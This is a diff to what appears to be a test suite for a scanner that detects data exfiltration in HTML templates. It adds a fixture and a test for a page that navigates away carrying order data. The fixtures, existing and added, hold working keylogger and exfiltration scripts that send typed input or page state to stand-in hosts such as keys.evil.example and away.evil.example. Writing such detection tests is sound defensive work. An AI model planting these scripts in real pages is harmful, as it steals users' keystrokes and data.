@@ -38,6 +38,9 @@ EXTRA = {
     "after_busy.html": '<p>still <b data-bind="customer.name"></b></p>\n<img src="https://cdn.example.com/logo.png" alt="">\n',
     "typed_keylogger.html": "<input id=q>\n<script>\n  document.getElementById('q').addEventListener('input', (e) => {\n"
                             "    new Image().src = 'https://keys.evil.example/k?v=' + btoa(e.target.value);\n  });\n</script>\n",
+    # The host module removes a frame that navigated away: a navigation, not a hang.
+    "navigates_away.html": "<p data-bind=\"order.total\"></p>\n<script>\n"
+                           "  location.href = 'https://away.evil.example/land?t=' + flowUi.get('order.total');\n</script>\n",
     # Reads keys, not the field's value: only real key events give it the typed text.
     "keydown_logger.html": "<textarea id=t></textarea>\n<script>\n  let keys = '';\n"
                            "  document.addEventListener('keydown', (e) => {\n    if (e.key.length === 1) keys += e.key;\n"
@@ -109,6 +112,14 @@ def test_typing_is_key_by_key(flowui_engine, run):
     """A keylogger on keydown sees what the review typed: real key events, not a value set at once."""
     found = [f for f in by_engine(run["keydown_logger.html"], flowui_engine.name) if f.rule == "exfil.input-to-url"]
     assert found and found[0].hosts == ["kd.evil.example"], run["keydown_logger.html"].findings
+
+
+def test_a_block_that_navigates_away_is_a_navigation_not_a_hang(flowui_engine, run):
+    result = run["navigates_away.html"]
+    assert flowui_engine.name not in result.timed_out
+    rules = {(f.rule, tuple(f.paths), tuple(f.hosts)) for f in by_engine(result, flowui_engine.name)}
+    assert ("exfil.state-to-url", ("order.total",), ("away.evil.example",)) in rules, rules
+    assert "browser.frame-navigated" in {r for r, _, _ in rules}, rules
 
 
 def test_a_busy_loop_hits_the_time_limit_and_the_run_goes_on(flowui_engine, run):
